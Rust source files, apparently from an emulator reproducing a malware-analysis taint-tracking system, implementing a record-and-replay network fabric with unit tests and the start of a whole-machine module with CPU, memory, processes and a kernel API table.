    fn on_data(&mut self, data: &[u8]) -> Vec<Vec<u8>>;

    /// Called periodically with the machine tick; returns spontaneous sends
    /// (e.g. a C2 server pushing a command without being asked).
    fn poll(&mut self, tick: u64) -> Vec<Vec<u8>> {
        let _ = tick;
        Vec::new()
    }
}

impl fmt::Debug for dyn RemoteEndpoint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("dyn RemoteEndpoint")
    }
}

/// One guest-visible network event, as captured in the recording.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum NetEvent {
    /// A connect attempt resolved.
    Connect {
        /// The flow (fully determined: local ports are assigned
        /// deterministically).
        flow: FlowTuple,
        /// Whether the remote accepted.
        ok: bool,
        /// Virtual tick at resolution.
        at_tick: u64,
    },
    /// Bytes became available to a guest receive.
    Rx {
        /// The flow the bytes belong to.
        flow: FlowTuple,
        /// The delivered bytes.
        data: Vec<u8>,
        /// Virtual tick at delivery.
        at_tick: u64,
    },
    /// An inbound connection was accepted by the guest.
    Accept {
        /// The flow (src = remote initiator, dst = guest listening port).
        flow: FlowTuple,
        /// Virtual tick at acceptance.
        at_tick: u64,
    },
    /// The remote closed the connection.
    Close {
        /// The flow being closed.
        flow: FlowTuple,
        /// Virtual tick at close.
        at_tick: u64,
    },
}

/// The ordered log of guest-visible network nondeterminism.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct NetLog {
    /// Events in delivery order.
    pub events: Vec<NetEvent>,
}

impl ToJson for FlowTuple {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("src_ip", self.src_ip.to_json_value()),
            ("src_port", self.src_port.to_json_value()),
            ("dst_ip", self.dst_ip.to_json_value()),
            ("dst_port", self.dst_port.to_json_value()),
        ])
    }
}

impl FromJson for FlowTuple {
    fn from_json_value(v: &JsonValue) -> Result<FlowTuple, JsonError> {
        Ok(FlowTuple {
            src_ip: json::field(v, "src_ip")?,
            src_port: json::field(v, "src_port")?,
            dst_ip: json::field(v, "dst_ip")?,
            dst_port: json::field(v, "dst_port")?,
        })
    }
}

impl ToJson for NetEvent {
    fn to_json_value(&self) -> JsonValue {
        // Externally tagged, matching the classic derive output so pre-
        // migration recordings stay loadable.
        let (tag, body) = match self {
            NetEvent::Connect { flow, ok, at_tick } => (
                "Connect",
                JsonValue::object(vec![
                    ("flow", flow.to_json_value()),
                    ("ok", ok.to_json_value()),
                    ("at_tick", at_tick.to_json_value()),
                ]),
            ),
            NetEvent::Rx { flow, data, at_tick } => (
                "Rx",
                JsonValue::object(vec![
                    ("flow", flow.to_json_value()),
                    ("data", data.to_json_value()),
                    ("at_tick", at_tick.to_json_value()),
                ]),
            ),
            NetEvent::Accept { flow, at_tick } => (
                "Accept",
                JsonValue::object(vec![
                    ("flow", flow.to_json_value()),
                    ("at_tick", at_tick.to_json_value()),
                ]),
            ),
            NetEvent::Close { flow, at_tick } => (
                "Close",
                JsonValue::object(vec![
                    ("flow", flow.to_json_value()),
                    ("at_tick", at_tick.to_json_value()),
                ]),
            ),
        };
        JsonValue::object(vec![(tag, body)])
    }
}

impl FromJson for NetEvent {
    fn from_json_value(v: &JsonValue) -> Result<NetEvent, JsonError> {
        let JsonValue::Object(fields) = v else {
            return Err(JsonError::decode("expected externally-tagged NetEvent object"));
        };
        let [(tag, body)] = fields.as_slice() else {
            return Err(JsonError::decode("NetEvent object must have exactly one key"));
        };
        match tag.as_str() {
            "Connect" => Ok(NetEvent::Connect {
                flow: json::field(body, "flow")?,
                ok: json::field(body, "ok")?,
                at_tick: json::field(body, "at_tick")?,
            }),
            "Rx" => Ok(NetEvent::Rx {
                flow: json::field(body, "flow")?,
                data: json::field(body, "data")?,
                at_tick: json::field(body, "at_tick")?,
            }),
            "Accept" => Ok(NetEvent::Accept {
                flow: json::field(body, "flow")?,
                at_tick: json::field(body, "at_tick")?,
            }),
            "Close" => Ok(NetEvent::Close {
                flow: json::field(body, "flow")?,
                at_tick: json::field(body, "at_tick")?,
            }),
            other => Err(JsonError::decode(format!("unknown NetEvent variant `{other}`"))),
        }
    }
}

impl ToJson for NetLog {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![("events", self.events.to_json_value())])
    }
}

impl FromJson for NetLog {
    fn from_json_value(v: &JsonValue) -> Result<NetLog, JsonError> {
        Ok(NetLog { events: json::field(v, "events")? })
    }
}

/// Result of a guest receive attempt.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RecvOutcome {
    /// Bytes delivered.
    Data {
        /// The flow they came from.
        flow: FlowTuple,
        /// The bytes.
        bytes: Vec<u8>,
    },
    /// Nothing available yet; the thread should block.
    WouldBlock,
    /// The connection is closed and drained.
    Closed,
}

/// Error when a replay diverges from its recording.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReplayDivergence {
    /// Human-readable description of the mismatch.
    pub detail: String,
}

impl fmt::Display for ReplayDivergence {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "replay diverged from recording: {}", self.detail)
    }
}

impl std::error::Error for ReplayDivergence {}

#[derive(Debug)]
struct Connection {
    flow: FlowTuple,
    endpoint: Option<usize>,
    rx: VecDeque<u8>,
    /// Replay mode: chunks scheduled for this flow, gated by tick.
    pending_replay: VecDeque<(u64, Vec<u8>)>,
    closed: bool,
}

/// A scheduled remote-initiated connection (live mode): at `at_tick` the
/// scripted peer dials the guest's listening `guest_port`.
struct InboundScript {
    at_tick: u64,
    remote: ([u8; 4], u16),
    guest_port: u16,
    endpoint: Option<Box<dyn RemoteEndpoint>>,
    delivered: bool,
}

impl fmt::Debug for InboundScript {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "InboundScript(:{} @ {} from {:?})",
            self.guest_port, self.at_tick, self.remote
        )
    }
}

enum Mode {
    Live,
    Replay {
        /// Outbound connects from the recording: (flow, accepted, consumed).
        connects: Vec<(FlowTuple, bool, bool)>,
        /// Inbound accepts from the recording: (flow, tick, consumed).
        accepts: Vec<(FlowTuple, u64, bool)>,
        log: NetLog,
    },
}

impl fmt::Debug for Mode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Mode::Live => f.write_str("Live"),
            Mode::Replay { connects, accepts, .. } => {
                write!(f, "Replay({} connects, {} accepts)", connects.len(), accepts.len())
            }
        }
    }
}

/// The network fabric.
#[derive(Debug)]
pub struct NetworkFabric {
    guest_ip: [u8; 4],
    endpoints: Vec<([u8; 4], u16, Box<dyn RemoteEndpoint>)>,
    conns: Vec<Connection>,
    next_local_port: u16,
    mode: Mode,
    recorded: NetLog,
    divergence: Option<ReplayDivergence>,
    inbound: Vec<InboundScript>,
    /// Ripe inbound scripts awaiting a guest `accept`, per listening port.
    pending_accepts: Vec<(u16, usize)>,
}

/// First ephemeral local port assigned to outbound guest connections.
pub const FIRST_EPHEMERAL_PORT: u16 = 49152;

impl NetworkFabric {
    /// Creates a live-mode fabric for a guest with the given IP.
    pub fn new_live(guest_ip: [u8; 4]) -> NetworkFabric {
        NetworkFabric {
            guest_ip,
            endpoints: Vec::new(),
            conns: Vec::new(),
            next_local_port: FIRST_EPHEMERAL_PORT,
            mode: Mode::Live,
            recorded: NetLog::default(),
            divergence: None,
            inbound: Vec::new(),
            pending_accepts: Vec::new(),
        }
    }

    /// Creates a replay-mode fabric that serves deliveries from `log`.
    pub fn new_replay(guest_ip: [u8; 4], log: NetLog) -> NetworkFabric {
        NetworkFabric {
            guest_ip,
            endpoints: Vec::new(),
            conns: Vec::new(),
            next_local_port: FIRST_EPHEMERAL_PORT,
            mode: Mode::Replay {
                connects: log
                    .events
                    .iter()
                    .filter_map(|e| match e {
                        NetEvent::Connect { flow, ok, .. } => Some((*flow, *ok, false)),
                        _ => None,
                    })
                    .collect(),
                accepts: log
                    .events
                    .iter()
                    .filter_map(|e| match e {
                        NetEvent::Accept { flow, at_tick } => Some((*flow, *at_tick, false)),
                        _ => None,
                    })
                    .collect(),
                log,
            },
            recorded: NetLog::default(),
            divergence: None,
            inbound: Vec::new(),
            pending_accepts: Vec::new(),
        }
    }

    /// The guest's IP address.
    pub fn guest_ip(&self) -> [u8; 4] {
        self.guest_ip
    }

    /// Registers a scripted remote endpoint listening at `ip:port`
    /// (live mode only; replay mode ignores endpoints).
    pub fn add_endpoint(&mut self, ip: [u8; 4], port: u16, ep: Box<dyn RemoteEndpoint>) {
        self.endpoints.push((ip, port, ep));
    }

    /// The log recorded so far (live mode).
    pub fn recorded(&self) -> &NetLog {
        &self.recorded
    }

    /// Consumes the fabric, returning its recording.
    pub fn into_recorded(self) -> NetLog {
        self.recorded
    }

    /// Returns the first divergence detected in replay mode, if any.
    pub fn divergence(&self) -> Option<&ReplayDivergence> {
        self.divergence.as_ref()
    }

    fn diverge(&mut self, detail: String) {
        if self.divergence.is_none() {
            self.divergence = Some(ReplayDivergence { detail });
        }
    }

    /// Opens a guest-initiated connection to `ip:port`. Returns the
    /// connection id, or `None` if refused.
    pub fn connect(&mut self, ip: [u8; 4], port: u16, tick: u64) -> Option<u32> {
        let local_port = self.next_local_port;
        self.next_local_port += 1;
        let flow = FlowTuple {
            src_ip: ip,
            src_port: port,
            dst_ip: self.guest_ip,
            dst_port: local_port,
        };
        match &mut self.mode {
            Mode::Live => {
                let ep_idx = self
                    .endpoints
                    .iter()
                    .position(|(eip, eport, _)| *eip == ip && *eport == port);
                let ok = ep_idx.is_some();
                self.recorded.events.push(NetEvent::Connect { flow, ok, at_tick: tick });
                let ep_idx = ep_idx?;
                let greetings = self.endpoints[ep_idx].2.on_connect();
                let mut conn = Connection {
                    flow,
                    endpoint: Some(ep_idx),
                    rx: VecDeque::new(),
                    pending_replay: VecDeque::new(),
                    closed: false,
                };
                for chunk in greetings {
                    conn.rx.extend(chunk);
                }
                self.conns.push(conn);
                Some(self.conns.len() as u32 - 1)
            }
            Mode::Replay { connects, log, .. } => {
                let slot = connects
                    .iter_mut()
                    .find(|(f, _, consumed)| !consumed && *f == flow);
                match slot {
                    Some((_, ok, consumed)) => {
                        *consumed = true;
                        let ok = *ok;
                        // Pre-stage every Rx for this flow, tick-gated.
                        let staged: VecDeque<(u64, Vec<u8>)> = log
                            .events
                            .iter()
                            .filter_map(|e| match e {
                                NetEvent::Rx { flow: rf, data, at_tick } if *rf == flow => {
                                    Some((*at_tick, data.clone()))
                                }
                                _ => None,
                            })
                            .collect();
                        if !ok {
                            return None;
                        }
                        self.conns.push(Connection {
                            flow,
                            endpoint: None,
                            rx: VecDeque::new(),
                            pending_replay: staged,
                            closed: false,
                        });
                        Some(self.conns.len() as u32 - 1)
                    }
                    None => {
                        self.diverge(format!("no recorded Connect matches {flow}"));
                        None
                    }
                }
            }
        }
    }

    /// The flow tuple of a connection.
    pub fn flow(&self, conn: u32) -> Option<FlowTuple> {
        self.conns.get(conn as usize).map(|c| c.flow)
    }

    /// Guest sends bytes on a connection. In live mode the endpoint script
    /// runs and may queue responses; in replay mode sends are absorbed
    /// (the recorded deliveries already reflect them).
    pub fn send(&mut self, conn: u32, data: &[u8]) -> bool {
        let Some(c) = self.conns.get_mut(conn as usize) else {
            return false;
        };
        if c.closed {
            return false;
        }
        if let (Mode::Live, Some(ep)) = (&self.mode, c.endpoint) {
            let responses = self.endpoints[ep].2.on_data(data);
            for chunk in responses {
                c.rx.extend(chunk);
            }
        }
        true
    }

    /// Pumps endpoint `poll` scripts (live) or tick-gated staged deliveries
    /// (replay) at the given tick.
    pub fn pump(&mut self, tick: u64) {
        match &self.mode {
            Mode::Live => {
                for c in &mut self.conns {
                    if c.closed {
                        continue;
                    }
                    if let Some(ep) = c.endpoint {
                        for chunk in self.endpoints[ep].2.poll(tick) {
                            c.rx.extend(chunk);
                        }
                    }
                }
                for (idx, script) in self.inbound.iter_mut().enumerate() {
                    if !script.delivered && script.at_tick <= tick {
                        script.delivered = true;
                        self.pending_accepts.push((script.guest_port, idx));
                    }
                }
            }
            Mode::Replay { .. } => {
                for c in &mut self.conns {
                    while c
                        .pending_replay
                        .front()
                        .is_some_and(|(at, _)| *at <= tick)
                    {
                        let (_, data) = c.pending_replay.pop_front().expect("front checked");
                        c.rx.extend(data);
                    }
                }
            }
        }
    }

    /// Schedules a remote-initiated connection (live mode): at `at_tick`
    /// the scripted peer `remote` dials the guest's listening `guest_port`.
    /// Replay mode ignores schedules — accepts come from the recording.
    pub fn schedule_inbound(
        &mut self,
        remote: ([u8; 4], u16),
        guest_port: u16,
        at_tick: u64,
        endpoint: Box<dyn RemoteEndpoint>,
    ) {
        self.inbound.push(InboundScript {
            at_tick,
            remote,
            guest_port,
            endpoint: Some(endpoint),
            delivered: false,
        });
    }

    /// Returns `true` if an `accept` on `guest_port` would complete now.
    pub fn inbound_ready(&self, guest_port: u16, tick: u64) -> bool {
        match &self.mode {
            Mode::Live => self.pending_accepts.iter().any(|(p, _)| *p == guest_port),
            Mode::Replay { accepts, .. } => accepts
                .iter()
                .any(|(f, at, consumed)| !consumed && f.dst_port == guest_port && *at <= tick),
        }
    }

    /// Accepts a pending inbound connection on `guest_port`, returning the
    /// connection id, or `None` if nothing is pending (the caller parks).
    pub fn accept(&mut self, guest_port: u16, tick: u64) -> Option<u32> {
        match &mut self.mode {
            Mode::Live => {
                let pos = self.pending_accepts.iter().position(|(p, _)| *p == guest_port)?;
                let (_, script_idx) = self.pending_accepts.remove(pos);
                let script = &mut self.inbound[script_idx];
                let flow = FlowTuple {
                    src_ip: script.remote.0,
                    src_port: script.remote.1,
                    dst_ip: self.guest_ip,
                    dst_port: guest_port,
                };
                let mut endpoint = script.endpoint.take().expect("accepted once");
                let greetings = endpoint.on_connect();
                self.endpoints.push((script.remote.0, script.remote.1, endpoint));
                let ep_idx = self.endpoints.len() - 1;
                let mut conn = Connection {
                    flow,
                    endpoint: Some(ep_idx),
                    rx: VecDeque::new(),
                    pending_replay: VecDeque::new(),
                    closed: false,
                };
                for chunk in greetings {
                    conn.rx.extend(chunk);
                }
                self.recorded.events.push(NetEvent::Accept { flow, at_tick: tick });
                self.conns.push(conn);
                Some(self.conns.len() as u32 - 1)
            }
            Mode::Replay { accepts, log, .. } => {
                let slot = accepts.iter_mut().find(|(f, at, consumed)| {
                    !consumed && f.dst_port == guest_port && *at <= tick
                })?;
                slot.2 = true;
                let flow = slot.0;
                let staged: VecDeque<(u64, Vec<u8>)> = log
                    .events
                    .iter()
                    .filter_map(|e| match e {
                        NetEvent::Rx { flow: rf, data, at_tick } if *rf == flow => {
                            Some((*at_tick, data.clone()))
                        }
                        _ => None,
                    })
                    .collect();
                self.conns.push(Connection {
                    flow,
                    endpoint: None,
                    rx: VecDeque::new(),
                    pending_replay: staged,
                    closed: false,
                });
                Some(self.conns.len() as u32 - 1)
            }
        }
    }

    /// Returns `true` if a receive on `conn` would deliver bytes now.
    pub fn readable(&self, conn: u32) -> bool {
        self.conns
            .get(conn as usize)
            .is_some_and(|c| !c.rx.is_empty() || c.closed)
    }

    /// Guest receives up to `max_len` bytes.
    pub fn recv(&mut self, conn: u32, max_len: usize, tick: u64) -> RecvOutcome {
        let Some(c) = self.conns.get_mut(conn as usize) else {
            return RecvOutcome::Closed;
        };
        if c.rx.is_empty() {
            return if c.closed { RecvOutcome::Closed } else { RecvOutcome::WouldBlock };
        }
        let n = max_len.min(c.rx.len());
        let bytes: Vec<u8> = c.rx.drain(..n).collect();
        let flow = c.flow;
        if matches!(self.mode, Mode::Live) {
            self.recorded.events.push(NetEvent::Rx {
                flow,
                data: bytes.clone(),
                at_tick: tick,
            });
        }
        RecvOutcome::Data { flow, bytes }
    }

    /// Closes a connection from the guest side.
    pub fn close(&mut self, conn: u32, tick: u64) {
        if let Some(c) = self.conns.get_mut(conn as usize) {
            if !c.closed {
                c.closed = true;
                if matches!(self.mode, Mode::Live) {
                    self.recorded.events.push(NetEvent::Close { flow: c.flow, at_tick: tick });
                }
            }
        }
    }

    /// Number of connections ever opened.
    pub fn connection_count(&self) -> usize {
        self.conns.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Echoes everything back, prefixed with `>`.
    struct Echo;
    impl RemoteEndpoint for Echo {
        fn on_connect(&mut self) -> Vec<Vec<u8>> {
            vec![b"hello".to_vec()]
        }
        fn on_data(&mut self, data: &[u8]) -> Vec<Vec<u8>> {
            let mut out = vec![b'>'];
            out.extend_from_slice(data);
            vec![out]
        }
    }

    /// Sends a payload only after tick 100 (spontaneous push).
    struct DelayedPush {
        sent: bool,
    }
    impl RemoteEndpoint for DelayedPush {
        fn on_data(&mut self, _d: &[u8]) -> Vec<Vec<u8>> {
            Vec::new()
        }
        fn poll(&mut self, tick: u64) -> Vec<Vec<u8>> {
            if !self.sent && tick >= 100 {
                self.sent = true;
                vec![b"late".to_vec()]
            } else {
                Vec::new()
            }
        }
    }

    const ATTACKER: [u8; 4] = [169, 254, 26, 161];
    const GUEST: [u8; 4] = [169, 254, 57, 168];

    #[test]
    fn connect_send_recv_live() {
        let mut fab = NetworkFabric::new_live(GUEST);
        fab.add_endpoint(ATTACKER, 4444, Box::new(Echo));
        let conn = fab.connect(ATTACKER, 4444, 1).unwrap();
        let flow = fab.flow(conn).unwrap();
        assert_eq!(flow.src_port, 4444);
        assert_eq!(flow.dst_port, FIRST_EPHEMERAL_PORT);
        match fab.recv(conn, 64, 2) {
            RecvOutcome::Data { bytes, .. } => assert_eq!(bytes, b"hello"),
            other => panic!("unexpected {other:?}"),
        }
        assert!(fab.send(conn, b"ping"));
        match fab.recv(conn, 64, 3) {
            RecvOutcome::Data { bytes, .. } => assert_eq!(bytes, b">ping"),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn connect_to_unknown_endpoint_refused() {
        let mut fab = NetworkFabric::new_live(GUEST);
        assert!(fab.connect([9, 9, 9, 9], 80, 0).is_none());
        // Refusal is still recorded (replay must refuse identically).
        assert!(matches!(
            fab.recorded().events[0],
            NetEvent::Connect { ok: false, .. }
        ));
    }

    #[test]
    fn recv_on_empty_blocks_then_closed_after_close() {
        let mut fab = NetworkFabric::new_live(GUEST);
        fab.add_endpoint(ATTACKER, 4444, Box::new(DelayedPush { sent: false }));
        let conn = fab.connect(ATTACKER, 4444, 0).unwrap();
        assert_eq!(fab.recv(conn, 16, 1), RecvOutcome::WouldBlock);
        fab.pump(50);
        assert_eq!(fab.recv(conn, 16, 51), RecvOutcome::WouldBlock);
        fab.pump(150);
        assert!(matches!(fab.recv(conn, 16, 151), RecvOutcome::Data { .. }));
        fab.close(conn, 152);
        assert_eq!(fab.recv(conn, 16, 153), RecvOutcome::Closed);
    }

    #[test]
    fn replay_reproduces_live_deliveries() {
        // Record a session.
        let mut live = NetworkFabric::new_live(GUEST);
        live.add_endpoint(ATTACKER, 4444, Box::new(Echo));
        let conn = live.connect(ATTACKER, 4444, 10).unwrap();
        let RecvOutcome::Data { bytes: b1, .. } = live.recv(conn, 64, 11) else {
            panic!()
        };
        live.send(conn, b"x");
        let RecvOutcome::Data { bytes: b2, .. } = live.recv(conn, 64, 12) else {
            panic!()
        };
        let log = live.into_recorded();

        // Replay without any endpoint attached.
        let mut rep = NetworkFabric::new_replay(GUEST, log);
        let conn2 = rep.connect(ATTACKER, 4444, 10).unwrap();
        rep.pump(11);
        let RecvOutcome::Data { bytes: r1, .. } = rep.recv(conn2, 64, 11) else {
            panic!()
        };
        rep.send(conn2, b"x"); // absorbed
        rep.pump(12);
        let RecvOutcome::Data { bytes: r2, .. } = rep.recv(conn2, 64, 12) else {
            panic!()
        };
        assert_eq!((b1, b2), (r1, r2));
        assert!(rep.divergence().is_none());
    }

    #[test]
    fn replay_gates_deliveries_on_tick() {
        let mut live = NetworkFabric::new_live(GUEST);
        live.add_endpoint(ATTACKER, 4444, Box::new(DelayedPush { sent: false }));
        let conn = live.connect(ATTACKER, 4444, 0).unwrap();
        live.pump(150);
        let RecvOutcome::Data { .. } = live.recv(conn, 64, 150) else { panic!() };
        let log = live.into_recorded();

        let mut rep = NetworkFabric::new_replay(GUEST, log);
        let conn2 = rep.connect(ATTACKER, 4444, 0).unwrap();
        rep.pump(10);
        assert_eq!(
            rep.recv(conn2, 64, 10),
            RecvOutcome::WouldBlock,
            "delivery must not arrive before its recorded tick"
        );
        rep.pump(150);
        assert!(matches!(rep.recv(conn2, 64, 150), RecvOutcome::Data { .. }));
    }

    #[test]
    fn replay_divergence_detected() {
        let mut live = NetworkFabric::new_live(GUEST);
        live.add_endpoint(ATTACKER, 4444, Box::new(Echo));
        live.connect(ATTACKER, 4444, 0).unwrap();
        let log = live.into_recorded();

        let mut rep = NetworkFabric::new_replay(GUEST, log);
        // Replayed guest connects somewhere else entirely.
        assert!(rep.connect([8, 8, 8, 8], 53, 0).is_none());
        assert!(rep.divergence().is_some());
    }

    #[test]
    fn local_ports_assigned_sequentially() {
        let mut fab = NetworkFabric::new_live(GUEST);
        fab.add_endpoint(ATTACKER, 4444, Box::new(Echo));
        let c1 = fab.connect(ATTACKER, 4444, 0).unwrap();
        let c2 = fab.connect(ATTACKER, 4444, 0).unwrap();
        assert_eq!(fab.flow(c1).unwrap().dst_port, FIRST_EPHEMERAL_PORT);
        assert_eq!(fab.flow(c2).unwrap().dst_port, FIRST_EPHEMERAL_PORT + 1);
    }

    #[test]
    fn partial_recv_respects_max_len() {
        let mut fab = NetworkFabric::new_live(GUEST);
        fab.add_endpoint(ATTACKER, 4444, Box::new(Echo));
        let conn = fab.connect(ATTACKER, 4444, 0).unwrap();
        let RecvOutcome::Data { bytes, .. } = fab.recv(conn, 2, 1) else { panic!() };
        assert_eq!(bytes, b"he");
        let RecvOutcome::Data { bytes, .. } = fab.recv(conn, 64, 2) else { panic!() };
        assert_eq!(bytes, b"llo");
    }
}
