//! The whole machine: CPU + memory + kernel state + scheduler.
//!
//! [`Machine`] is the reproduction's "QEMU + Windows 7 guest". It owns the
//! FE32 CPU, physical memory, the process table, the filesystem and the
//! network fabric, and drives everything from [`Machine::run`], reporting
//! every observable event through an [`Observer`].
//!
//! The kernel is *paravirtual*: syscalls are serviced in Rust, but all
//! guest-visible data movement is reported at physical-byte granularity so a
//! DIFT observer sees exactly the flows an instruction-level kernel trace
//! would produce (DESIGN.md, decision 1).

use crate::event::{ByteRange, CopyRun, Observer};
use crate::fs::FileSystem;
use crate::handle::{Pid, Tid};
use crate::module::{Export, FdlImage, ModuleInfo};
use crate::net::NetworkFabric;
use crate::nt::Sysno;
use crate::process::{
    BlockReason, PendingSyscall, Process, Thread, ThreadState, VadRegion,
};
use faros_emu::asm::Asm;
use faros_emu::cpu::{Cpu, CpuContext, StepEvent};
use faros_emu::isa::{Mem as MemOp, Reg};
use faros_emu::mem::{PhysMem, PAGE_SIZE};
use faros_emu::mmu::{Access, AddressSpace, Asid, Fault, Perms, KERNEL_BASE};
use faros_emu::tcache::{TcStats, TransCache};
use std::collections::{BTreeMap, VecDeque};
use std::fmt;

/// Machine construction parameters.
#[derive(Debug, Clone)]
pub struct MachineConfig {
    /// Physical memory size in 4 KiB frames.
    pub ram_frames: u32,
    /// Guest IPv4 address.
    pub guest_ip: [u8; 4],
    /// Instructions per scheduler quantum.
    pub timeslice: u32,
}

impl Default for MachineConfig {
    fn default() -> Self {
        MachineConfig {
            ram_frames: 4096, // 16 MiB
            guest_ip: [169, 254, 57, 168],
            timeslice: 200,
        }
    }
}

/// How [`Machine::run`] executes guest instructions.
///
/// Both modes produce byte-identical observer event streams; the cached mode
/// exists purely for speed (decode each block once, then replay the
/// predecoded run). The interpreter is kept selectable so the differential
/// harness can prove the equivalence on every corpus program.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ExecMode {
    /// Decode-once translation cache with block chaining (default).
    #[default]
    Cached,
    /// Plain fetch-decode-execute interpreter (`Cpu::step` per instruction).
    Interpret,
}

/// Why [`Machine::run`] returned.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RunExit {
    /// Every process has exited.
    AllExited,
    /// The instruction budget was exhausted.
    Budget,
    /// No thread can ever run again (all blocked with no wake source).
    Deadlocked,
}

/// Virtual address where the kernel module's API stubs live.
pub const KERNEL_STUBS_VA: u32 = KERNEL_BASE;

/// Virtual address of the kernel module's export table — the region whose
/// function-pointer bytes FAROS taints (the paper's flagged reads target
/// addresses like `0x83B07019` in this half of the address space).
pub const KERNEL_EXPORT_TABLE_VA: u32 = 0x8001_0000;

/// Default image base for user programs.
pub const IMAGE_BASE: u32 = 0x0040_0000;

/// Stack top for main threads.
pub const STACK_TOP: u32 = 0x7ffc_4000;

/// Stack size in bytes.
pub const STACK_SIZE: u32 = 4 * PAGE_SIZE;

/// Error from machine-level operations (spawning, memory services).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum MachineError {
    /// Guest memory exhausted.
    OutOfMemory,
    /// A guest virtual address did not translate.
    BadAddress(Fault),
    /// The referenced process does not exist.
    NoSuchProcess(Pid),
    /// The referenced file does not exist.
    NoSuchFile(String),
    /// The image file is not a valid FDL.
    BadImage(String),
    /// The requested virtual range collides with an existing mapping.
    AddressConflict(u32),
}

impl fmt::Display for MachineError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            MachineError::OutOfMemory => write!(f, "guest physical memory exhausted"),
            MachineError::BadAddress(fault) => write!(f, "bad guest address: {fault}"),
            MachineError::NoSuchProcess(p) => write!(f, "no such process: {p}"),
            MachineError::NoSuchFile(p) => write!(f, "no such file: {p}"),
            MachineError::BadImage(e) => write!(f, "bad image: {e}"),
            MachineError::AddressConflict(va) => {
                write!(f, "address conflict at {va:#010x}")
            }
        }
    }
}

impl std::error::Error for MachineError {}

/// The whole emulated system.
#[derive(Debug)]
pub struct Machine {
    /// Guest physical memory (public for snapshot scanners).
    pub mem: PhysMem,
    pub(crate) cpu: Cpu,
    pub(crate) procs: BTreeMap<Pid, Process>,
    next_pid: u32,
    next_tid: u32,
    run_queue: VecDeque<(Pid, Tid)>,
    pub(crate) current: Option<(Pid, Tid)>,
    /// The guest filesystem.
    pub fs: FileSystem,
    /// The network fabric.
    pub net: NetworkFabric,
    kernel_pages: Vec<(u32, u32, Perms)>,
    kernel_modules: Vec<ModuleInfo>,
    kernel_export_ranges: Vec<ByteRange>,
    idle_boost: u64,
    console: Vec<(Pid, String)>,
    booted: bool,
    config: MachineConfig,
    exec: ExecMode,
    pub(crate) tcache: TransCache,
}

impl Machine {
    /// Creates a machine with a live-mode network fabric.
    pub fn new(config: MachineConfig) -> Machine {
        let net = NetworkFabric::new_live(config.guest_ip);
        Machine::with_fabric(config, net)
    }

    /// Creates a machine around an existing fabric (live or replay) — the
    /// record/replay driver uses this.
    pub fn with_fabric(config: MachineConfig, net: NetworkFabric) -> Machine {
        let mut m = Machine {
            mem: PhysMem::new(config.ram_frames),
            cpu: Cpu::new(),
            procs: BTreeMap::new(),
            next_pid: 1,
            next_tid: 1,
            run_queue: VecDeque::new(),
            current: None,
            fs: FileSystem::new(),
            net,
            kernel_pages: Vec::new(),
            kernel_modules: Vec::new(),
            kernel_export_ranges: Vec::new(),
            idle_boost: 0,
            console: Vec::new(),
            booted: false,
            config,
            exec: ExecMode::default(),
            tcache: TransCache::new(),
        };
        m.build_kernel_module();
        m
    }

    /// The machine configuration.
    pub fn config(&self) -> &MachineConfig {
        &self.config
    }

    /// Selects how guest instructions are executed (see [`ExecMode`]).
    pub fn set_exec_mode(&mut self, exec: ExecMode) {
        self.exec = exec;
    }

    /// The current execution mode.
    pub fn exec_mode(&self) -> ExecMode {
        self.exec
    }

    /// Translation-cache counters (`tc.*` metrics source). All zero when the
    /// machine runs in [`ExecMode::Interpret`].
    pub fn tc_stats(&self) -> TcStats {
        self.tcache.stats()
    }

    /// Total virtual time: instructions retired plus idle boosts.
    pub fn ticks(&self) -> u64 {
        self.cpu.retired() + self.idle_boost
    }

    /// Console lines printed by guests, in order.
    pub fn console(&self) -> &[(Pid, String)] {
        &self.console
    }

    /// All processes (alive and exited), by pid.
    pub fn processes(&self) -> impl Iterator<Item = &Process> + '_ {
        self.procs.values()
    }

    /// Looks up a process.
    pub fn process(&self, pid: Pid) -> Option<&Process> {
        self.procs.get(&pid)
    }

    /// Looks up a process by image name (first match in pid order).
    pub fn process_by_name(&self, name: &str) -> Option<&Process> {
        self.procs.values().find(|p| p.name == name)
    }

    /// Boot-time kernel modules (mapped into every process).
    pub fn kernel_modules(&self) -> &[ModuleInfo] {
        &self.kernel_modules
    }

    /// The currently scheduled thread.
    pub fn current_thread(&self) -> Option<(Pid, Tid)> {
        self.current
    }

    /// OSI view: process summaries in pid order (the `pslist` an
    /// introspection tool renders).
    pub fn pslist(&self) -> Vec<crate::process::ProcessInfo> {
        self.procs.values().map(|p| p.info()).collect()
    }

    /// OSI view: the modules loaded in a process (its "DLL list"),
    /// kernel modules first.
    pub fn dlllist(&self, pid: Pid) -> Vec<&ModuleInfo> {
        let mut out: Vec<&ModuleInfo> = self.kernel_modules.iter().collect();
        if let Some(p) = self.procs.get(&pid) {
            out.extend(p.modules.iter());
        }
        out
    }

    // ------------------------------------------------------------------
    // Boot: the kernel module (API stubs + export table)
    // ------------------------------------------------------------------

    /// The Win32-flavoured API surface exported by the kernel module, with
    /// the service each stub invokes.
    fn kernel_api() -> Vec<(&'static str, Option<Sysno>)> {
        vec![
            ("LoadLibraryA", Some(Sysno::LdrLoadDll)),
            ("GetProcAddress", None), // real guest code, see below
            ("VirtualAlloc", Some(Sysno::NtAllocateVirtualMemory)),
            ("VirtualProtect", Some(Sysno::NtProtectVirtualMemory)),
            ("VirtualFree", Some(Sysno::NtFreeVirtualMemory)),
            ("CreateFileA", Some(Sysno::NtCreateFile)),
